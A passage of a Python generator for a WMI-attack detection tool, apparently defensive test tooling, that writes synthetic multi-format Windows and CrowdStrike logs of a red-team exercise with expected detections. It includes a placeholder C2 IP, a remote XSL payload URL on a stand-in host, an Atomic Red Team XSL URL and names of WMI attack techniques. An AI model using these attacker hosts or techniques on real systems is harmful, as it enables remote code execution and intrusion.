#!/usr/bin/env python3
"""Write wmihunt's bundled sample logs (samples/logs/) and samples/EXPECTED.json.

The samples tell one story (a red-team exercise across four hosts, see samples/README.md)
in every input format wmihunt reads: Windows event XML (an ``<Events>`` export and Splunk
``XmlWinEventLog`` one-event-per-line), Winlogbeat/ECS JSON lines, NXLog flat JSON lines and
a gzip-compressed CrowdStrike event stream.

Standalone and deterministic: stdlib only, one fixed seed and fixed timestamps, so two runs
write the same bytes (the gzip member has mtime 0 and no file name).

    python samples/generate.py            # writes samples/logs/ and samples/EXPECTED.json
    python samples/generate.py ROOT       # writes ROOT/logs/ and ROOT/EXPECTED.json

Every event carries hand-written expectations: which of the story's 12 detections it must
fire (literal upstream predicates of shared/spec/DETECTIONS.md, one match per event), or
which ones it resembles but must not fire. Before writing, ``check_labels`` re-evaluates
the literal predicates on each rendered event and refuses to write when the hand labels
and the predicates disagree, so EXPECTED.json cannot drift from the files.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import re
import sys
import uuid
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SEED = 20240312
DAY = datetime(2024, 3, 12, tzinfo=UTC)

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
WMI = "Microsoft-Windows-WMI-Activity/Operational"
FALCON = "CrowdStrike"

PROVIDERS = {
    SYSMON: ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
    SECURITY: ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}"),
    POWERSHELL: ("Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"),
    WMI: ("Microsoft-Windows-WMI-Activity", "{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}"),
}

K_SYSMON = "0x8000000000000000"
K_AUDIT = "0x8020000000000000"
K_WMI = "0x4000000000000000"
#: (version, level, task, opcode, keywords) of the System block, per (channel, EventID).
SYSTEM_META: dict[tuple[str, int], tuple[int, int, int, int, str]] = {
    (SYSMON, 1): (5, 4, 1, 0, K_SYSMON),
    (SYSMON, 3): (5, 4, 3, 0, K_SYSMON),
    (SYSMON, 11): (2, 4, 11, 0, K_SYSMON),
    (SYSMON, 19): (3, 4, 19, 0, K_SYSMON),
    (SYSMON, 20): (3, 4, 20, 0, K_SYSMON),
    (SYSMON, 21): (3, 4, 21, 0, K_SYSMON),
    (SECURITY, 4624): (2, 0, 12544, 0, K_AUDIT),
    (SECURITY, 4634): (0, 0, 12545, 0, K_AUDIT),
    (SECURITY, 4648): (0, 0, 12544, 0, K_AUDIT),
    (SECURITY, 4672): (0, 0, 12548, 0, K_AUDIT),
    (SECURITY, 4688): (2, 0, 13312, 0, K_AUDIT),
    (SECURITY, 5156): (1, 0, 12810, 0, K_AUDIT),
    (POWERSHELL, 4104): (1, 5, 2, 15, "0x0"),
    (WMI, 5857): (0, 4, 0, 0, K_WMI),
    (WMI, 5859): (0, 4, 0, 0, K_WMI),
    (WMI, 5860): (0, 4, 0, 0, K_WMI),
    (WMI, 5861): (0, 4, 0, 0, K_WMI),
}

MODEL_OF: dict[tuple[str, object], str] = {
    (SYSMON, 1): "process_start",
    (SECURITY, 4688): "process_start",
    (FALCON, "ProcessRollup2"): "process_start",
    (FALCON, "SyntheticProcessRollup2"): "process_start",
    (SYSMON, 19): "wmi_activity",
    (SYSMON, 20): "wmi_activity",
    (SYSMON, 21): "wmi_activity",
    (WMI, 5857): "wmi_activity",
    (WMI, 5859): "wmi_activity",
    (WMI, 5860): "wmi_activity",
    (WMI, 5861): "wmi_activity",
    (POWERSHELL, 4104): "script_block",
    (SECURITY, 4624): "logon",
    (SECURITY, 4648): "logon",
}

DETECTIONS: dict[int, tuple[str, str]] = {
    1: ("Detect WMI Event Subscription Persistence", "01d9a0c2-cece-11eb-ab46-acde48001122"),
    2: ("PowerShell Invoke WmiExec Usage", "0734bd21-2769-4972-a5f1-78bb1e011224"),
    3: ("Process Execution via WMI", "24869767-8579-485d-9a4f-d9ddfd8f0cac"),
    4: ("Remote Process Instantiation via WMI", "d25d2c3d-d9d8-40ec-8fdf-e86fe155a3da"),
    5: ("Remote WMI Command Attempt", "272df6de-61f1-4784-877c-1fbc3e2d0838"),
    6: ("Script Execution via WMI", "aa73f80d-d728-4077-b226-81ea0c8be589"),
    7: ("Windows WMI Process Call Create", "0661c2de-93de-11ec-9833-acde48001122"),
    8: ("WMI Permanent Event Subscription", "71bfdb13-f200-4c6c-b2c9-a2e07adf437d"),
    9: ("WMI Permanent Event Subscription - Sysmon", "ad05aae6-3b2a-4f73-af97-57bd26cee3b9"),
    10: ("WMI Temporary Event Subscription", "38cbd42c-1098-41bb-99cf-9d6d2b296d83"),
    11: ("WMIC XSL Execution via URL", "787e9dd0-4328-11ec-a029-acde48001122"),
    12: ("XSL Script Execution With WMIC", "004e32e2-146d-11ec-a83f-acde48001122"),
}

#: Output files: name -> (format, description).
FILES: dict[str, tuple[str, str]] = {
    "ws01_sysmon.xml": ("xml-events", "WS01 Sysmon/Operational, Event Viewer <Events> export"),
    "ws01_security.xml": ("xml-lines", "WS01 Security, Splunk XmlWinEventLog (one <Event> a line)"),
    "ws01_powershell.xml": ("xml-events", "WS01 PowerShell/Operational, <Events> export"),
    "ws01_wmi_activity.xml": ("xml-events", "WS01 WMI-Activity/Operational, <Events> export"),
    "srv01_winlogbeat.jsonl": ("winlogbeat", "SRV01 Sysmon, Security, PowerShell via Winlogbeat 8"),
    "dc01_security.xml": ("xml-events", "DC01 Security (Server 2008 R2 shapes), <Events> export"),
    "dc01_nxlog.json": ("nxlog", "DC01 Sysmon and WMI-Activity via NXLog (flat JSON lines)"),
    "ws02_falcon.jsonl.gz": ("falcon", "WS02 CrowdStrike Falcon event stream, gzip-compressed"),
}


# --------------------------------------------------------------------------- the estate


@dataclass(frozen=True)
class Host:
    name: str
    fqdn: str
    ip: str
    os: str
    guid_prefix: str  # first group of Sysmon GUIDs on this host
    boot_tail: str  # last group of Sysmon process GUIDs
    sysmon_pid: int


@dataclass(frozen=True)
class Account:
    domain: str
    name: str
    sid: str

    @property
    def qualified(self) -> str:
        return f"{self.domain}\\{self.name}"


@dataclass(frozen=True)
class Logon:
    account: Account
    logon_id: int
    time: datetime
    session: int = 0


DOMAIN, DNS = "EXAMPLECORP", "examplecorp.test"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"  # the SID Microsoft's docs use

WS01 = Host(
    "WS01", f"WS01.{DNS}", "192.0.2.21", "Windows 10 22H2", "7B3E91A4", "000000001E00", 3116
)
SRV01 = Host("SRV01", f"SRV01.{DNS}", "192.0.2.10", "Server 2019", "2C8F40D7", "000000000A00", 2548)
DC01 = Host("DC01", f"DC01.{DNS}", "192.0.2.5", "Server 2008 R2", "9E15B3C2", "000000000500", 1536)
WS02 = Host("WS02", f"WS02.{DNS}", "192.0.2.22", "Windows 11 23H2", "", "", 0)
ADM01_IP = "192.0.2.50"  # the IT admins' jump host (no logs in the samples)
C2_IP = "198.51.100.23"  # attacker infrastructure (documentation range)
XSL_URL = "https://files.example.net/x.xsl"
ART_XSL_URL = (
    "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1220/src/"
    "wmicscript.xsl"
)
FALCON_AID = "5e0c1d2b3a49486f8c7d6e5f4a3b2c1d"
FALCON_CID = "0d1e2f3a4b5c46d7e8f9a0b1c2d3e4f5"

SYSTEM = Account("NT AUTHORITY", "SYSTEM", "S-1-5-18")
LOCAL_SERVICE = Account("NT AUTHORITY", "LOCAL SERVICE", "S-1-5-19")
NETWORK_SERVICE = Account("NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20")
JDOE = Account(DOMAIN, "jdoe", f"{DOMAIN_SID}-1107")
MSMITH = Account(DOMAIN, "msmith", f"{DOMAIN_SID}-1112")
ADM_SVC = Account(DOMAIN, "adm-svc", f"{DOMAIN_SID}-1120")
IT_ADMIN = Account(DOMAIN, "it-admin", f"{DOMAIN_SID}-1105")
IR_ANALYST = Account(DOMAIN, "ir-analyst", f"{DOMAIN_SID}-1131")

SERVICE_LOGON_IDS = {SYSTEM.sid: 0x3E7, LOCAL_SERVICE.sid: 0x3E5, NETWORK_SERVICE.sid: 0x3E4}


def at(hms: str) -> datetime:
    """'09:05:13.451' on the exercise day, UTC."""
    h, m, s = hms.split(":")
    return DAY + timedelta(hours=int(h), minutes=int(m), seconds=float(s))


def ms(delta: float) -> timedelta:
    return timedelta(milliseconds=delta)


def service_logon(account: Account, boot: datetime) -> Logon:
    return Logon(account, SERVICE_LOGON_IDS[account.sid], boot, 0)


@dataclass(frozen=True)
class PE:
    version: str
    description: str
    product: str
    company: str
    original: str


MS_PRODUCT, MS_COMPANY = "Microsoft® Windows® Operating System", "Microsoft Corporation"


def _ms(version: str, description: str, original: str) -> PE:
    return PE(version, description, MS_PRODUCT, MS_COMPANY, original)


W10 = "10.0.19041.3636 (WinBuild.160101.0800)"
PE_META: dict[str, PE] = {
    "wmic.exe": _ms(W10, "WMI Commandline Utility", "wmic.exe"),
    "cmd.exe": _ms(W10, "Windows Command Processor", "Cmd.Exe"),
    "powershell.exe": _ms(W10, "Windows PowerShell", "PowerShell.EXE"),
    "wmiprvse.exe": _ms(W10, "WMI Provider Host", "Wmiprvse.exe"),
    "notepad.exe": _ms(W10, "Notepad", "NOTEPAD.EXE"),
    "whoami.exe": _ms(W10, "whoami - displays logged on user information", "whoami.exe"),
    "rundll32.exe": _ms(W10, "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "explorer.exe": _ms(W10, "Windows Explorer", "EXPLORER.EXE"),
    "svchost.exe": _ms(W10, "Host Process for Windows Services", "svchost.exe"),
    "services.exe": _ms(W10, "Services and Controller app", "services.exe"),
    "userinit.exe": _ms(W10, "Userinit Logon Application", "USERINIT.EXE"),
    "mofcomp.exe": _ms(W10, "The Managed Object Format (MOF) Compiler", "mofcomp.exe"),
    "dismhost.exe": _ms(W10, "Dism Host Servicing Process", "DismHost.exe"),
    "scrcons.exe": _ms(W10, "WMI Standard Event Consumer - scripting", "scrcons.exe"),
    "calc.exe": _ms(W10, "Windows Calculator", "CALC.EXE"),
    "ipconfig.exe": _ms(W10, "IP Configuration Utility", "ipconfig.exe"),
    "net.exe": _ms(W10, "Net Command", "net.exe"),
    "tasklist.exe": _ms(W10, "Lists the current running tasks", "tasklist.exe"),
    "gpupdate.exe": _ms(W10, "Microsoft® Group Policy Update Utility", "GPUpdate.exe"),
    "runas.exe": _ms(W10, "Run As Utility", "RUNAS.EXE"),
    "repadmin.exe": _ms(W10, "Replication Diagnosis Tool", "repadmin.exe"),
    "taskhost.exe": _ms(W10, "Host Process for Windows Tasks", "taskhost.exe"),
    "msxsl.exe": PE("1.1.0.1", "msxsl", "Command Line XSLT", "Microsoft Corporation", "msxsl.exe"),
    "chrome.exe": PE(
        "122.0.6261.112", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"
    ),
    "code.exe": PE(
        "1.87.1",
        "Visual Studio Code",
        "Visual Studio Code",
        "Microsoft Corporation",
        "electron.exe",
    ),
    "node.exe": PE("20.11.1", "Node.js JavaScript Runtime", "Node.js", "Node.js", "node.exe"),
}


def basename(path: str | None) -> str:
    return (path or "").replace("/", "\\").rsplit("\\", 1)[-1]


def _digest(algo: str, key: str) -> str:
    return hashlib.new(algo, f"wmihunt-sample|{key}".encode()).hexdigest().upper()


def hashes(meta_key: str, image: str) -> str:
    key = f"{meta_key}|{basename(image).lower()}"
    return (
        f"MD5={_digest('md5', key)},SHA256={_digest('sha256', key)},"
        f"IMPHASH={_digest('md5', 'imp|' + key)}"
    )


# --------------------------------------------------------------------------- events


@dataclass(frozen=True)
class Expect:
    """What an event must trigger (literally), or what it resembles and must not."""

    fires: frozenset[int] = frozenset()
    label: str = "BENIGN"
    note: str = ""
    near: tuple[int, ...] = ()
    #: Detections an engine that goes beyond the literal predicate may add (documented in
    #: EXPECTED.json "not_literal"; never counted as literal matches).
    beyond: tuple[int, ...] = ()


def E(
    fires: tuple[int, ...] = (),
    label: str | None = None,
    note: str = "",
    near: tuple[int, ...] = (),
    beyond: tuple[int, ...] = (),
) -> Expect:
    if label is None:
        label = "TP" if fires else "BENIGN"
    return Expect(frozenset(fires), label, note, near, beyond)


@dataclass
class Proc:
    host: Host
    time: datetime
    image: str
    cmd: str
    logon: Logon
    parent: Proc | None
    integrity: str = "Medium"
    meta_key: str = ""
    cwd: str = "C:\\Windows\\system32\\"
    pid: int = 0
    guid: str = ""
    falcon_id: int = 0

    @property
    def name(self) -> str:
        return basename(self.image)


@dataclass
class Ev:
    """One rendered event, before serialization."""

    file: str
    time: datetime
    channel: str
    event_id: int | str
    host: Host
    data: list[tuple[str, str]] = field(default_factory=list)
    userdata: str | None = None  # UserData child element name
    message: str | None = None
    user_sid: str | None = None
    exec_pid: int = 4
    exec_tid: int = 0
    version: int | None = None
    level: int | None = None
    activity_id: str | None = None
    falcon: dict[str, Any] | None = None
    expect: Expect = field(default_factory=Expect)
    nxlog_eid_as_text: bool = False
    seq: int = 0
    record_id: int | None = None
    line: int | None = None

    @property
    def model(self) -> str | None:
        return MODEL_OF.get(
            (self.channel if self.channel != "security" else SECURITY, self.event_id)
        )

    def get(self, name: str) -> str | None:
        for key, value in self.data:
            if key == name:
                return value
        return None


# --------------------------------------------------------------------------- the world


class World:
    """Allocates ids (pids, GUIDs, Falcon ids) and collects events."""

    def __init__(self) -> None:
        self.rng = random.Random(SEED)
        self.events: list[Ev] = []
        self._pids: dict[str, set[int]] = {}
        self._guid_counter: dict[str, int] = {}
        self._falcon_ids: set[int] = set()
        self._seq = 0

    # ids -----------------------------------------------------------------
    def _pid(self, host: Host) -> int:
        used = self._pids.setdefault(host.name, set())
        while True:
            pid = self.rng.randrange(600, 14000, 4)
            if pid not in used:
                used.add(pid)
                return pid

    def _guid(self, host: Host, when: datetime) -> str:
        counter = self._guid_counter.get(host.name, 0x11) + self.rng.randint(1, 9)
        self._guid_counter[host.name] = counter
        epoch = int(when.timestamp())
        return (
            f"{{{host.guid_prefix}-{epoch & 0xFFFF:04X}-{epoch >> 16 & 0xFFFF:04X}-"
            f"{counter & 0xFF:02X}{counter >> 8 & 0xFF:02X}-{host.boot_tail}}}"
        )

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def proc(
        self,
        host: Host,
        time: datetime,
        image: str,
        cmd: str,
        logon: Logon,
        parent: Proc | None,
        *,
        integrity: str = "Medium",
        meta_key: str = "",
        cwd: str = "C:\\Windows\\system32\\",
    ) -> Proc:
        p = Proc(
            host,
            time,
            image,
            cmd,
            logon,
            parent,
            integrity,
            meta_key or basename(image).lower(),
            cwd,
        )
        p.pid = self._pid(host)
        if host.guid_prefix:
            p.guid = self._guid(host, time)
        else:
            while True:
                fid = self.rng.randrange(10**10, 10**11)
                if fid not in self._falcon_ids:
                    self._falcon_ids.add(fid)
                    p.falcon_id = fid
                    break
        return p

    def add(self, ev: Ev) -> Ev:
        self._seq += 1
        ev.seq = self._seq
        if not ev.exec_tid:
            ev.exec_tid = self.rng.randrange(200, 12000, 4)
        self.events.append(ev)
        return ev


def logon_guid(host: Host, logon: Logon) -> str:
    epoch = int(logon.time.timestamp())
    b = logon.logon_id.to_bytes(4, "little")
    return (
        f"{{{host.guid_prefix}-{epoch & 0xFFFF:04X}-{epoch >> 16 & 0xFFFF:04X}-"
        f"{b[0]:02X}{b[1]:02X}-{b[2]:02X}{b[3]:02X}00000000}}"
    )


def utc_ms(t: datetime) -> str:
    return f"{t:%Y-%m-%d %H:%M:%S}.{t.microsecond // 1000:03d}"


def hexid(n: int) -> str:
    return f"0x{n:x}"


def cmd_child(command: str) -> str:
    """The child's command line once cmd.exe has re-tokenised ``command``.

    Real logs show ``wmic  process ...`` (two spaces after the program name) for a WMIC.exe
    started by ``cmd.exe /c "wmic process ..."``.
    """
    program, _, rest = command.partition(" ")
    return f"{program}  {rest}" if rest else program


CMD_EXE = "C:\\Windows\\System32\\cmd.exe"
PS_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WMIC_EXE = "C:\\Windows\\System32\\wbem\\WMIC.exe"
WMIPRVSE_EXE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
SVCHOST_EXE = "C:\\Windows\\System32\\svchost.exe"
NOTEPAD_EXE = "C:\\Windows\\System32\\notepad.exe"


# --------------------------------------------------------------------------- renderers


def sysmon_1(p: Proc, *, parent_user: bool = True) -> list[tuple[str, str]]:
    meta = PE_META[p.meta_key]
    parent = p.parent
    assert parent is not None
    data = [
        ("RuleName", "-"),
        ("UtcTime", utc_ms(p.time)),
        ("ProcessGuid", p.guid),
        ("ProcessId", str(p.pid)),
        ("Image", p.image),
        ("FileVersion", meta.version),
        ("Description", meta.description),
        ("Product", meta.product),
        ("Company", meta.company),
        ("OriginalFileName", meta.original),
        ("CommandLine", p.cmd),
        ("CurrentDirectory", p.cwd),
        ("User", p.logon.account.qualified),
        ("LogonGuid", logon_guid(p.host, p.logon)),
        ("LogonId", hexid(p.logon.logon_id)),
        ("TerminalSessionId", str(p.logon.session)),
        ("IntegrityLevel", p.integrity),
        ("Hashes", hashes(p.meta_key, p.image)),
        ("ParentProcessGuid", parent.guid),
        ("ParentProcessId", str(parent.pid)),
        ("ParentImage", parent.image),
        ("ParentCommandLine", parent.cmd),
    ]
    if parent_user:
        data.append(("ParentUser", parent.logon.account.qualified))
    return data


def _subject(host: Host, logon: Logon) -> tuple[str, str, str, str]:
    """(sid, name, domain, logon id) as Security events write a subject."""
    acct = logon.account
    if acct.sid in (SYSTEM.sid, NETWORK_SERVICE.sid):
        return acct.sid, f"{host.name}$", DOMAIN, hexid(logon.logon_id)
    if acct.sid == LOCAL_SERVICE.sid:
        return acct.sid, "LOCAL SERVICE", "NT AUTHORITY", hexid(logon.logon_id)
    return acct.sid, acct.name, acct.domain, hexid(logon.logon_id)


ELEVATION = {"Medium": "%%1938", "High": "%%1937", "System": "%%1936"}
LABEL = {"Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}


def security_4688_v2(p: Proc) -> list[tuple[str, str]]:
    """Windows 10 / Server 2016+ shape: ParentProcessName, Target*, MandatoryLabel."""
    parent = p.parent
    assert parent is not None
    if parent.logon.account != p.logon.account:
        subject = _subject(p.host, parent.logon)
        from_wmi = parent.name.lower() == "wmiprvse.exe"
        target = (
            "S-1-0-0" if from_wmi else p.logon.account.sid,
            p.logon.account.name,
            p.logon.account.domain,
            hexid(p.logon.logon_id),
        )
    else:
        subject = _subject(p.host, p.logon)
        target = ("S-1-0-0", "-", "-", "0x0")
    return [
        ("SubjectUserSid", subject[0]),
        ("SubjectUserName", subject[1]),
        ("SubjectDomainName", subject[2]),
        ("SubjectLogonId", subject[3]),
        ("NewProcessId", hexid(p.pid)),
        ("NewProcessName", p.image),
        ("TokenElevationType", ELEVATION[p.integrity]),
        ("ProcessId", hexid(parent.pid)),
        ("CommandLine", p.cmd),
        ("TargetUserSid", target[0]),
        ("TargetUserName", target[1]),
        ("TargetDomainName", target[2]),
        ("TargetLogonId", target[3]),
        ("ParentProcessName", parent.image),
        ("MandatoryLabel", LABEL[p.integrity]),
    ]


def security_4688_v0(p: Proc) -> list[tuple[str, str]]:
    """Server 2008 R2 shape: no CommandLine, no ParentProcessName; the parent is only the
    hex ProcessId, equal to the NewProcessId of an earlier 4688 on the same host."""
    parent = p.parent
    assert parent is not None
    subject = _subject(p.host, p.logon)
    return [
        ("SubjectUserSid", subject[0]),
        ("SubjectUserName", subject[1]),
        ("SubjectDomainName", subject[2]),
        ("SubjectLogonId", subject[3]),
        ("NewProcessId", hexid(p.pid)),
        ("NewProcessName", p.image),
        ("TokenElevationType", ELEVATION[p.integrity]),
        ("ProcessId", hexid(parent.pid)),
    ]


def security_4624(
    host: Host,
    logon: Logon,
    logon_type: int,
    *,
    ip: str = "-",
    port: str = "-",
    workstation: str = "-",
    auth: str = "Kerberos",
    version: int = 2,
    process: tuple[str, str] = ("0x0", "-"),
    outbound: Account | None = None,
    elevated: bool = True,
) -> list[tuple[str, str]]:
    acct = logon.account
    if logon_type in (2, 9, 10, 11):
        subj = _subject(host, Logon(SYSTEM, 0x3E7, logon.time))
        if logon_type == 9:
            subj = _subject(host, Logon(JDOE, 0x1F3A2B1, logon.time))
    else:
        subj = ("S-1-0-0", "-", "-", "0x0")
    ntlm = auth == "NTLM"
    logon_process = {2: "User32 ", 9: "seclogo", 10: "User32 ", 11: "User32 "}.get(
        logon_type, "NtLmSsp " if ntlm else "Kerberos"
    )
    package = "Negotiate" if logon_type in (2, 9, 10, 11) else auth
    target_domain = acct.domain if (ntlm or acct.domain == "NT AUTHORITY") else DNS.upper()
    data = [
        ("SubjectUserSid", subj[0]),
        ("SubjectUserName", subj[1]),
        ("SubjectDomainName", subj[2]),
        ("SubjectLogonId", subj[3]),
        ("TargetUserSid", acct.sid),
        ("TargetUserName", acct.name),
        ("TargetDomainName", target_domain),
        ("TargetLogonId", hexid(logon.logon_id)),
        ("LogonType", str(logon_type)),
        ("LogonProcessName", logon_process),
        ("AuthenticationPackageName", package),
        ("WorkstationName", workstation),
        (
            "LogonGuid",
            "{00000000-0000-0000-0000-000000000000}"
            if ntlm
            else "{"
            + str(uuid.UUID(hashlib.md5(f"{acct.sid}{logon.logon_id}".encode()).hexdigest()))
            + "}",
        ),
        ("TransmittedServices", "-"),
        ("LmPackageName", "NTLM V2" if ntlm else "-"),
        ("KeyLength", "128" if ntlm else "0"),
        ("ProcessId", process[0]),
        ("ProcessName", process[1]),
        ("IpAddress", ip),
        ("IpPort", port),
    ]
    if version >= 2:
        data += [
            ("ImpersonationLevel", "%%1833"),
            ("RestrictedAdminMode", "-"),
            ("TargetOutboundUserName", outbound.name if outbound else "-"),
            ("TargetOutboundDomainName", outbound.domain if outbound else "-"),
            ("VirtualAccount", "%%1843"),
            ("TargetLinkedLogonId", "0x0"),
            ("ElevatedToken", "%%1842" if elevated else "%%1843"),
        ]
    return data


def security_4648(
    host: Host,
    subject: Logon,
    target: Account,
    server: str,
    info: str,
    process: Proc | None,
    process_name: str = "",
) -> list[tuple[str, str]]:
    subj = _subject(host, subject)
    return [
        ("SubjectUserSid", subj[0]),
        ("SubjectUserName", subj[1]),
        ("SubjectDomainName", subj[2]),
        ("SubjectLogonId", subj[3]),
        ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
        ("TargetUserName", target.name),
        ("TargetDomainName", target.domain),
        ("TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}"),
        ("TargetServerName", server),
        ("TargetInfo", info),
        ("ProcessId", hexid(process.pid) if process else "0x1c4"),
        ("ProcessName", process.image if process else process_name),
        ("IpAddress", "-"),
        ("IpPort", "-"),
    ]


def sysmon_quote(value: str) -> str:
    """Sysmon 19-21 rendering: leading space, quotes, doubled backslashes, escaped quotes."""
    return ' "' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def sid_bytes(sid: str) -> str:
    """A SID as the MOF byte array WMI prints for CreatorSID."""
    parts = sid.split("-")
    auth, subs = int(parts[2]), [int(x) for x in parts[3:]]
    out = [int(parts[1]), len(subs), *auth.to_bytes(6, "big")]
    for sub in subs:
        out += list(sub.to_bytes(4, "little"))
    return "{" + ", ".join(str(b) for b in out) + "}"


def mof_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def mof_instance(cls: str, props: dict[str, str]) -> str:
    body = "".join(f"\t{k} = {v};\n" for k, v in sorted(props.items(), key=lambda kv: kv[0]))
    return f"instance of {cls}\n{{\n{body}}};\n"


def binding_cause(
    filter_props: dict[str, str], consumer_cls: str, consumer_props: dict[str, str]
) -> str:
    return (
        "Binding EventFilter: \n"
        + mof_instance("__EventFilter", filter_props)
        + "Perm. Consumer: \n"
        + mof_instance(consumer_cls, consumer_props)
    )


def render_message(title: str, data: list[tuple[str, str]]) -> str:
    return title + "\r\n" + "\r\n".join(f"{k}: {v}" for k, v in data)


MESSAGE_TITLE = {
    (SYSMON, 1): "Process Create:",
    (SYSMON, 3): "Network connection detected:",
    (SYSMON, 11): "File created:",
    (SYSMON, 19): "WmiEventFilter activity detected:",
    (SYSMON, 20): "WmiEventConsumer activity detected:",
    (SYSMON, 21): "WmiEventConsumerToFilter activity detected:",
    (SECURITY, 4624): "An account was successfully logged on.",
    (SECURITY, 4634): "An account was logged off.",
    (SECURITY, 4648): "A logon was attempted using explicit credentials.",
    (SECURITY, 4672): "Special privileges assigned to new logon.",
    (SECURITY, 4688): "A new process has been created.",
    (SECURITY, 5156): "The Windows Filtering Platform has permitted a connection.",
    (POWERSHELL, 4104): "Creating Scriptblock text:",
}

# ------------------------------------------------------------------------- the scenario


class Scenario:
    """Builds the story, host by host, in time order within each step."""

    def __init__(self) -> None:
        self.w = World()
        self.srv: dict[str, Any] = {}

    # emitters -----------------------------------------------------------------
    def start(
        self,
        p: Proc,
        expect: Expect,
        *,
        sysmon: bool = True,
        sec: bool = True,
        sec_expect: Expect | None = None,
    ) -> Proc:
        """Log a process start on every source its host has."""
        host = p.host
        if host is WS01:
            if sysmon:
                self._sysmon(p, "ws01_sysmon.xml", expect)
            if sec:
                self._win(
                    host,
                    p.time + ms(0.6),
                    SECURITY,
                    4688,
                    "ws01_security.xml",
                    security_4688_v2(p),
                    sec_expect or expect,
                )
        elif host is SRV01:
            if sysmon:
                self._sysmon(p, "srv01_winlogbeat.jsonl", expect)
        elif host is DC01:
            if sysmon:
                self._sysmon(p, "dc01_nxlog.json", expect, parent_user=False)
            if sec:
                self._win(
                    host,
                    p.time + ms(0.8),
                    SECURITY,
                    4688,
                    "dc01_security.xml",
                    security_4688_v0(p),
                    sec_expect or expect,
                    version=0,
                )
        elif host is WS02:
            self.falcon(p, expect)
        return p

    def _sysmon(self, p: Proc, file: str, expect: Expect, parent_user: bool = True) -> None:
        self._win(
            p.host,
            p.time + ms(2.3),
            SYSMON,
            1,
            file,
            sysmon_1(p, parent_user=parent_user),
            expect,
            user_sid=SYSTEM.sid,
            exec_pid=p.host.sysmon_pid,
        )

    def _win(
        self,
        host: Host,
        time: datetime,
        channel: str,
        eid: int,
        file: str,
        data: list[tuple[str, str]],
        expect: Expect,
        **kw: Any,
    ) -> Ev:
        if channel == SYSMON:
            kw.setdefault("user_sid", SYSTEM.sid)
            kw.setdefault("exec_pid", host.sysmon_pid)
        return self.w.add(Ev(file, time, channel, eid, host, data, expect=expect, **kw))

    def falcon(self, p: Proc, expect: Expect, *, seen: datetime | None = None) -> None:
        """A ProcessRollup2, or a SyntheticProcessRollup2 when the sensor only ``seen`` an
        already running process."""
        parent = p.parent
        assert parent is not None
        acct = p.logon.account
        synthetic = seen is not None
        event_time = seen or p.time + ms(97)
        t_ms = int(p.time.timestamp() * 1000)
        obj: dict[str, Any] = {
            "event_simpleName": "SyntheticProcessRollup2" if synthetic else "ProcessRollup2",
            "name": "SyntheticProcessRollup2V2" if synthetic else "ProcessRollup2V19",
            "timestamp": str(int(event_time.timestamp() * 1000)),
            "ProcessStartTime": f"{t_ms / 1000:.3f}",
            "aid": FALCON_AID,
            "cid": FALCON_CID,
            "aip": "203.0.113.45",
            "event_platform": "Win",
            "ComputerName": WS02.name,
            "id": self.w.uuid(),
            "TargetProcessId": str(p.falcon_id),
            "ParentProcessId": str(parent.falcon_id),
            "SourceProcessId": str(parent.falcon_id),
            "RawProcessId": str(p.pid),
            "ImageFileName": "\\Device\\HarddiskVolume3" + p.image[2:],
            "CommandLine": p.cmd,
            "ParentBaseFileName": parent.name,
            "UserSid": acct.sid,
        }
        if acct.sid not in SERVICE_LOGON_IDS and not synthetic:
            obj["UserName"] = acct.name
        obj.update(
            {
                "AuthenticationId": str(p.logon.logon_id),
                "ParentAuthenticationId": str(parent.logon.logon_id),
                "IntegrityLevel": {"Medium": "8192", "High": "12288", "System": "16384"}[
                    p.integrity
                ],
                "TokenType": "1" if p.integrity != "High" else "2",
                "SessionId": str(p.logon.session),
                "MD5HashData": _digest("md5", p.meta_key).lower(),
                "SHA256HashData": _digest("sha256", p.meta_key).lower(),
                "SHA1HashData": "0" * 40,
                "ConfigBuild": "1007.3.0018207.1",
                "ConfigStateHash": "840884426",
                "EffectiveTransmissionClass": "3",
                "ImageSubsystem": "3",
                "ProcessCreateFlags": "1024",
                "SignInfoFlags": "8683538",
            }
        )
        self.w.add(
            Ev(
                "ws02_falcon.jsonl.gz",
                event_time,
                FALCON,
                obj["event_simpleName"],
                WS02,
                falcon=obj,
                expect=expect,
            )
        )

    def builtin(self, parent: Proc, t: datetime, command: str, note: str) -> Proc:
        """``cmd.exe /c <builtin>`` (copy, ...): no child process."""
        c = self.w.proc(
            parent.host,
            t,
            CMD_EXE,
            f'"C:\\Windows\\system32\\cmd.exe" /c "{command}"',
            parent.logon,
            parent,
            integrity=parent.integrity,
            cwd=parent.cwd,
        )
        return self.start(c, E(label="CONTEXT", note=note))

    def via_cmd(
        self,
        parent: Proc,
        t: datetime,
        command: str,
        *,
        child_image: str = WMIC_EXE,
        cmd_expect: Expect | None = None,
        child_expect: Expect,
        sysmon: bool = True,
        sec: bool = True,
    ) -> tuple[Proc, Proc]:
        """ART's command_prompt executor: parent -> cmd.exe /c "command" -> child."""
        w = self.w
        c = w.proc(
            parent.host,
            t,
            CMD_EXE,
            f'"C:\\Windows\\system32\\cmd.exe" /c "{command}"',
            parent.logon,
            parent,
            integrity=parent.integrity,
            cwd=parent.cwd,
        )
        self.start(
            c,
            cmd_expect
            or E(
